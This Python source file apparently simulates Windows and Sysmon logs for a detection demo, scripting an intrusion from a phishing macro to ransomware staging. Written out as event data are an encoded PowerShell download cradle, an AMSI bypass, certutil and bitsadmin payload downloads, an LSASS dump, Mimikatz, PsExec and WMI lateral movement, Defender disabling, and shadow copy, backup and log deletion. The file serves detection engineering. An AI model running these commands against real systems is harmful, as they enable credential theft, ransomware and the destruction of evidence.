"""The intrusion hidden in the demo day: a phishing document to ransomware staging.

A treasury clerk (a.sato on FIN-WS-014) opens a macro document; an encoded PowerShell cradle
fetches a loader, which dumps LSASS and finds the help desk's admin credentials; with them the
intruder moves to the file server (PsExec) and the domain controller (WMI, RDP), creates a
domain admin, makes the loader persistent, switches Microsoft Defender off on the file server,
and removes its shadow copies, backups and logs before the encryptor would start.
"""

from __future__ import annotations

import base64
from datetime import datetime, timedelta

from mamori.demo.logsim import ruleids as R
from mamori.demo.logsim.estate import (
    A_SATO,
    ADM_K_YAMADA,
    C2_IP,
    C2_NAME,
    DAY,
    DC_01,
    DOMAIN,
    DOMAIN_SID,
    FS_02,
    STAGER_IP,
    SVC_SQLBKP,
    WS_014,
)
from mamori.demo.logsim.model import WinEvent
from mamori.demo.logsim.sysmon import Proc, Sysmon
from mamori.demo.logsim.winlog import WinLog

SYS32 = "C:\\Windows\\System32\\"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
PAYLOAD = "C:\\Users\\Public\\lib.dll"
CRADLE = f"IEX (New-Object Net.WebClient).DownloadString('http://{STAGER_IP}/a.ps1')"
LOADER_SCRIPT = (
    "$a=[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')\n"
    "$a.GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\n"
    f"$d='{PAYLOAD}'\n"
    "Start-Process -WindowStyle Hidden certutil.exe -ArgumentList "
    f'"-urlcache -split -f http://{STAGER_IP}/lib.dll $d"\n'
    "Start-Sleep -Seconds 6\n"
    'Start-Process -WindowStyle Hidden rundll32.exe -ArgumentList "$d,Start"\n'
)
LSASS_TRACE = (
    "C:\\Windows\\SYSTEM32\\ntdll.dll+a0d34|C:\\Windows\\System32\\KERNELBASE.dll+6e1ab|"
    "C:\\Windows\\System32\\dbgcore.DLL+1b230|C:\\Windows\\System32\\comsvcs.dll+4d2a1|"
    "C:\\Windows\\System32\\rundll32.exe+3bc5"
)


def at(clock: str) -> datetime:
    """A time of the demo day, ``HH:MM:SS.mmm`` in UTC."""
    hours, minutes, seconds = clock.split(":")
    return DAY + timedelta(hours=int(hours), minutes=int(minutes), seconds=float(seconds))


def encoded(command: str) -> str:
    """``command`` as PowerShell's -EncodedCommand takes it: Base64 of UTF-16LE."""
    return base64.b64encode(command.encode("utf-16-le")).decode("ascii")


class Intrusion:
    """Plays the intrusion, stage by stage, into a list of events."""

    def __init__(self, sysmon: Sysmon, winlog: WinLog) -> None:
        self.sysmon = sysmon
        self.log = winlog
        self.events: list[WinEvent] = []

    def play(self) -> list[WinEvent]:
        """Every event of the intrusion, in the order they were built."""
        beacon = self.install_loader(self.open_attachment())
        self.discovery(beacon)
        self.credential_theft(beacon)
        shell = self.lateral_movement(beacon)
        self.persistence(beacon)
        self.disable_defender(shell)
        self.stage_encryptor(shell)
        self.impact(shell)
        return self.events

    def start(
        self,
        clock: str,
        parent: Proc,
        image: str,
        command_line: str,
        alerts: tuple[str, ...] = (),
        note: str = "",
        **changes: str,
    ) -> Proc:
        proc, event = self.sysmon.start(
            at(clock), parent, image, command_line, alerts, note, **changes
        )
        self.events.append(event)
        return proc

    def add(self, *events: WinEvent) -> None:
        self.events.extend(events)

    def open_attachment(self) -> Proc:
        """The clerk opens the macro document, which starts an encoded download cradle."""
        user = dict(user=A_SATO.qualified, integrity="Medium")
        outlook = self.sysmon.root(
            WS_014, OFFICE + "OUTLOOK.EXE", f'"{OFFICE}OUTLOOK.EXE" ', **user
        )
        attachment = (
            "C:\\Users\\a.sato\\AppData\\Local\\Microsoft\\Windows\\INetCache\\"
            "Content.Outlook\\Q7ZK3M1P\\Invoice_2026-11.docm"
        )
        self.add(self.sysmon.file(at("09:41:12.204"), outlook, attachment))
        word = self.start(
            "09:41:20.518",
            outlook,
            OFFICE + "WINWORD.EXE",
            f'"{OFFICE}WINWORD.EXE" /n "{attachment}" /o ""',
        )
        self.add(
            self.sysmon.connect(
                at("09:41:24.090"),
                word,
                STAGER_IP,
                80,
                None,
                (R.NET_PUBLIC,),
                "Word fetches the remote template from a bare IP",
            )
        )
        shell = self.start(
            "09:41:31.377",
            word,
            SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
            f"powershell.exe -nop -w hidden -enc {encoded(CRADLE)}",
            (R.OFFICE_CHILD, R.PS_ENCODED, R.PS_ENCODED_DOWNLOAD),
            "the macro starts PowerShell with an encoded download cradle",
        )
        return shell

    def install_loader(self, shell: Proc) -> Proc:
        """The cradle's script switches AMSI off and starts the loader DLL: the beacon."""
        self.add(
            self.log.script_block(
                at("09:41:32.102"),
                WS_014,
                A_SATO,
                CRADLE,
                (R.PS_CRADLE_SCRIPT,),
                "the decoded cradle",
            ),
            self.sysmon.connect(at("09:41:32.650"), shell, STAGER_IP, 80, None),
            self.log.script_block(
                at("09:41:33.941"),
                WS_014,
                A_SATO,
                LOADER_SCRIPT,
                (R.AMSI_BYPASS,),
                "the fetched a.ps1 switches AMSI off",
            ),
        )
        certutil = self.start(
            "09:41:35.220",
            shell,
            SYS32 + "certutil.exe",
            f"certutil.exe -urlcache -split -f http://{STAGER_IP}/lib.dll {PAYLOAD}",
            (R.CERTUTIL_DOWNLOAD,),
            "certutil downloads the loader DLL",
        )
        self.add(
            self.sysmon.connect(at("09:41:36.004"), certutil, STAGER_IP, 80, None),
            self.sysmon.file(at("09:41:36.870"), certutil, PAYLOAD),
        )
        beacon = self.start(
            "09:41:41.530",
            shell,
            SYS32 + "rundll32.exe",
            f"rundll32.exe {PAYLOAD},Start",
            (R.RUNDLL32_USER_DLL,),
            "rundll32 runs the loader from C:\\Users\\Public",
        )
        self.add(
            self.sysmon.connect(
                at("09:41:43.118"),
                beacon,
                C2_IP,
                443,
                C2_NAME,
                (R.NET_PUBLIC,),
                "the loader calls its C2 server",
            )
        )
        return beacon

    def discovery(self, beacon: Proc) -> None:
        """Who am I, who are the domain admins, where are the domain controllers."""
        steps = (
            ("09:52:10.441", "whoami.exe", "whoami  /all", R.WHOAMI_PRIVS),
            ("09:53:02.118", "net.exe", 'net  group "domain admins" /domain', R.NET_GROUP_ENUM),
            (
                "09:53:40.730",
                "nltest.exe",
                f"nltest  /dclist:{DOMAIN.lower()}.local",
                R.NLTEST_RECON,
            ),
        )
        for clock, program, command, rule in steps:
            cmd = self.start(
                clock,
                beacon,
                SYS32 + "cmd.exe",
                f"C:\\Windows\\system32\\cmd.exe /c {command.replace('  ', ' ')}",
            )
            later = (at(clock) + timedelta(milliseconds=61)).strftime("%H:%M:%S.%f")
            self.start(
                later, cmd, SYS32 + program, command, (rule,), f"discovery: {command.split()[0]}"
            )

    def credential_theft(self, beacon: Proc) -> None:
        """LSASS dumped with comsvcs.dll, then Mimikatz reads it live."""
        lsass = self.sysmon.root(WS_014, SYS32 + "lsass.exe", "C:\\Windows\\system32\\lsass.exe")
        dumper = self.start(
            "10:04:54.310",
            beacon,
            SYS32 + "rundll32.exe",
            f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} "
            "C:\\Users\\Public\\dbg.dmp full",
            (R.LSASS_DUMP_CMDLINE,),
            "LSASS dumped through comsvcs.dll MiniDump",
            integrity="High",
        )
        self.add(
            self.sysmon.load(
                at("10:04:54.402"),
                dumper,
                SYS32 + "dbgcore.dll",
                (R.DBGHELP_LOAD,),
                "rundll32 loads the dump library",
            ),
            self.sysmon.access(
                at("10:04:54.455"),
                dumper,
                lsass,
                "0x1fffff",
                LSASS_TRACE,
                (R.LSASS_ACCESS,),
                "rundll32 opens LSASS",
            ),
            self.sysmon.file(
                at("10:04:55.870"),
                dumper,
                "C:\\Users\\Public\\dbg.dmp",
                (R.DUMP_FILE,),
                "the dump lands in C:\\Users\\Public",
            ),
            self.sysmon.file(at("10:12:30.118"), beacon, "C:\\Users\\Public\\mm.exe"),
        )
        mimikatz = self.start(
            "10:12:41.662",
            beacon,
            "C:\\Users\\Public\\mm.exe",
            '"C:\\Users\\Public\\mm.exe" "privilege::debug" "sekurlsa::logonpasswords" exit',
            (R.MIMIKATZ_MODULES,),
            "Mimikatz reads logon passwords",
            integrity="High",
        )
        trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+a0d34|C:\\Users\\Public\\mm.exe+7f0c2"
        self.add(
            self.sysmon.access(
                at("10:12:41.910"),
                mimikatz,
                lsass,
                "0x1010",
                trace,
                (R.LSASS_ACCESS,),
                "Mimikatz opens LSASS",
            )
        )

    def lateral_movement(self, beacon: Proc) -> Proc:
        """PsExec to the file server, WMI and RDP to the domain controller."""
        admin = ADM_K_YAMADA
        self.start(
            "10:20:03.551",
            beacon,
            "C:\\Users\\Public\\PsExec64.exe",
            f"C:\\Users\\Public\\PsExec64.exe \\\\{FS_02.name} -accepteula "
            f"-u {admin.qualified} cmd.exe",
        )
        self.add(
            self.log.logon(at("10:20:04.870"), FS_02, admin, 3, WS_014.ip, "-"),
            self.log.special_privileges(at("10:20:04.871"), FS_02, admin),
            self.log.service_installed(
                at("10:20:05.430"),
                FS_02,
                admin,
                "PSEXESVC",
                "%SystemRoot%\\PSEXESVC.exe",
                (R.PSEXEC_SERVICE,),
                "PsExec installs its service on the file server",
            ),
        )
        services = self.sysmon.root(
            FS_02, SYS32 + "services.exe", "C:\\Windows\\system32\\services.exe"
        )
        psexesvc = self.start(
            "10:20:05.988", services, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe"
        )
        shell = self.start(
            "10:20:06.301",
            psexesvc,
            SYS32 + "cmd.exe",
            '"cmd.exe" ',
            user=admin.qualified,
            integrity="High",
        )
        self.wmi_on_domain_controller()
        self.start(
            "10:31:12.004",
            beacon,
            SYS32 + "mstsc.exe",
            f'"C:\\Windows\\system32\\mstsc.exe" /v:{DC_01.name}',
        )
        self.add(
            self.log.logon(
                at("10:31:15.602"),
                DC_01,
                admin,
                10,
                WS_014.ip,
                WS_014.name,
                (R.RDP_OUTSIDE_ADMIN_NET,),
                "RDP to the domain controller from a clerk's workstation",
            )
        )
        return shell

    def wmi_on_domain_controller(self) -> None:
        """wmiexec-style commands on the DC: a new account, made a domain admin."""
        admin = ADM_K_YAMADA
        self.add(self.log.logon(at("10:26:11.020"), DC_01, admin, 3, WS_014.ip, "-"))
        wmi = self.sysmon.root(
            DC_01,
            SYS32 + "wbem\\WmiPrvSE.exe",
            "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
            user="NT AUTHORITY\\NETWORK SERVICE",
        )
        commands = (
            ("10:26:12.480", "cd \\", None),
            ("10:26:40.903", "net user svc_sqlbkp Wint3r!Sync26 /add /domain", "net.exe"),
            ("10:27:05.377", 'net group "Domain Admins" svc_sqlbkp /add /domain', "net.exe"),
        )
        for clock, command, program in commands:
            stamp = f"{at(clock).timestamp():.2f}"
            line = f"cmd.exe /Q /c {command} 1> \\\\127.0.0.1\\ADMIN$\\__{stamp} 2>&1"
            cmd = self.start(
                clock,
                wmi,
                SYS32 + "cmd.exe",
                line,
                (R.WMIPRVSE_SHELL, R.WMIEXEC_OUTPUT),
                f"wmiexec-style command: {command}",
                user=admin.qualified,
                integrity="High",
            )
            if program:
                later = (at(clock) + timedelta(milliseconds=87)).strftime("%H:%M:%S.%f")
                self.start(later, cmd, SYS32 + program, command.replace("net ", "net  ", 1))
        self.add(
            self.log.account_created(
                at("10:26:41.215"),
                DC_01,
                admin,
                SVC_SQLBKP,
                (R.USER_CREATED,),
                "the intruder's account svc_sqlbkp",
            ),
            self.log.member_added(
                at("10:27:05.702"),
                DC_01,
                4728,
                admin,
                SVC_SQLBKP,
                ("Domain Admins", DOMAIN, f"{DOMAIN_SID}-512"),
                (R.PRIVILEGED_GROUP,),
                "svc_sqlbkp made a domain admin",
            ),
        )

    def persistence(self, beacon: Proc) -> None:
        """A Run key and a scheduled task that both start the loader again."""
        command = f"rundll32.exe {PAYLOAD},Start"
        run_key = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
        reg = self.start(
            "10:35:20.117",
            beacon,
            SYS32 + "reg.exe",
            f'reg  add {run_key} /v OneDriveSync /t REG_SZ /d "{command}" /f',
        )
        value = (
            f"HKU\\{A_SATO.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSync"
        )
        self.add(
            self.sysmon.registry(
                at("10:35:20.160"),
                reg,
                value,
                command,
                (R.RUN_KEY,),
                "Run key that restarts the loader at logon",
            )
        )
        task = "\\Microsoft\\Windows\\Maintenance\\SyncHelper"
        self.start(
            "10:36:02.733",
            beacon,
            SYS32 + "schtasks.exe",
            f'schtasks  /create /tn "{task}" /tr "{command}" /sc onlogon /ru SYSTEM /f',
            (R.SCHTASKS_CREATE,),
            "scheduled task that restarts the loader",
            integrity="High",
        )
        self.add(
            self.log.task_created(
                at("10:36:02.901"),
                WS_014,
                A_SATO,
                (task, "rundll32.exe", f"{PAYLOAD},Start"),
                alerts=(R.TASK_REGISTERED,),
                note="the same task, as the Security log records it",
            )
        )

    def disable_defender(self, shell: Proc) -> None:
        """Defender switched off by policy on the file server."""
        policy = "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender"
        for clock, subkey, value in (
            ("10:48:10.220", "", "DisableAntiSpyware"),
            ("10:48:31.675", "\\Real-Time Protection", "DisableRealtimeMonitoring"),
        ):
            reg = self.start(
                clock,
                shell,
                SYS32 + "reg.exe",
                f'reg  add "{policy}{subkey}" /v {value} /t REG_DWORD /d 1 /f',
            )
            later = at(clock) + timedelta(milliseconds=40)
            self.add(
                self.sysmon.registry(
                    later,
                    reg,
                    f"{policy}{subkey}\\{value}",
                    "DWORD (0x00000001)",
                    (R.DEFENDER_DISABLED,),
                    f"Defender policy {value} set to 1",
                )
            )

    def stage_encryptor(self, shell: Proc) -> None:
        """The new account made local admin; the encryptor downloaded and made a service."""
        self.start(
            "10:50:02.118",
            shell,
            SYS32 + "net.exe",
            "net  localgroup Administrators svc_sqlbkp /add",
        )
        self.add(
            self.log.member_added(
                at("10:50:02.305"),
                FS_02,
                4732,
                ADM_K_YAMADA,
                SVC_SQLBKP,
                ("Administrators", "Builtin", "S-1-5-32-544"),
                (R.PRIVILEGED_GROUP,),
                "svc_sqlbkp added to the file server's Administrators",
            )
        )
        target = "C:\\Windows\\Temp\\syncsvc.exe"
        self.start(
            "10:52:40.551",
            shell,
            SYS32 + "bitsadmin.exe",
            f"bitsadmin  /transfer upd /download /priority high "
            f"http://{STAGER_IP}/syncsvc.exe {target}",
            (R.BITSADMIN_TRANSFER,),
            "bitsadmin downloads the encryptor",
        )
        bits = self.sysmon.root(
            FS_02, SYS32 + "svchost.exe", "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s BITS"
        )
        self.add(self.sysmon.file(at("10:52:55.014"), bits, target))
        binpath = f"%COMSPEC% /c {target}"
        self.start(
            "10:55:12.090",
            shell,
            SYS32 + "sc.exe",
            f'sc  create FinSyncSvc binPath= "{binpath}" start= demand',
        )
        self.add(
            self.log.service_installed(
                at("10:55:12.310"),
                FS_02,
                ADM_K_YAMADA,
                "FinSyncSvc",
                binpath,
                (R.SERVICE_SUSPICIOUS,),
                "the encryptor installed as a service",
            )
        )

    def impact(self, shell: Proc) -> None:
        """Recovery removed: shadow copies, boot recovery, backups, then the logs."""
        steps = (
            (
                "11:02:01.330",
                "vssadmin.exe",
                "vssadmin.exe delete shadows /all /quiet",
                R.SHADOW_DELETE,
            ),
            (
                "11:02:09.812",
                "wbem\\WMIC.exe",
                "wmic  shadowcopy delete /nointeractive",
                R.SHADOW_DELETE,
            ),
            (
                "11:02:15.004",
                "bcdedit.exe",
                "bcdedit  /set {default} recoveryenabled No",
                R.BCDEDIT_RECOVERY,
            ),
            (
                "11:02:15.622",
                "bcdedit.exe",
                "bcdedit  /set {default} bootstatuspolicy ignoreallfailures",
                R.BCDEDIT_RECOVERY,
            ),
            ("11:02:24.447", "wbadmin.exe", "wbadmin  delete catalog -quiet", R.WBADMIN_DELETE),
        )
        for clock, program, command, rule in steps:
            self.start(
                clock,
                shell,
                SYS32 + program,
                command,
                (rule,),
                f"recovery removed: {command.split()[0]}",
            )
        self.start("11:03:40.118", shell, SYS32 + "wevtutil.exe", "wevtutil  cl Security")
        self.add(
            self.log.security_log_cleared(
                at("11:03:40.290"),
                FS_02,
                ADM_K_YAMADA,
                (R.SECURITY_LOG_CLEARED,),
                "the file server's Security log cleared",
            )
        )
        self.start("11:03:41.502", shell, SYS32 + "wevtutil.exe", "wevtutil  cl System")
        self.add(
            self.log.system_log_cleared(
                at("11:03:41.633"),
                FS_02,
                ADM_K_YAMADA,
                (R.EVENT_LOG_CLEARED,),
                "the file server's System log cleared",
            )
        )
